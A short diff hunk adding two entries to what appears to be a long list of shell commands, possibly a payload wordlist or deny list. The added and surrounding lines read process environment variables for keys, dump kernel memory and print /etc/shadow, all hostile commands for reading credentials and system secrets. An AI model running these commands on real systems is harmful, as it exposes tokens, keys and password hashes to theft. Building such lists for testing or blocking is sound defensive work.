@@ -1448,6 +1448,10 @@ cat /proc/1/environ
 
 cat /proc/*/environ
 
+grep -a KEY /proc/*/task/*/environ
+
+strings /proc/kcore
+
 cd / && cat etc/shadow
 
 cd /etc && cat shadow
